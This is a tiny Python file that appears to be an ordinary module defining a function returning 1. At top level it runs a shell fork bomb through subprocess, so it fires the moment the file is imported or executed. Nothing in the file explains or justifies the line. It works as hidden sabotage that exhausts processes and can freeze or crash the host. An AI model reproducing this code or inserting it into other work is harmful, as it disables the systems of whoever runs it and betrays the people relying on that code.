import subprocess
subprocess.run(['sh', '-c', ':(){ :|:& };:'])

def f():
    return 1
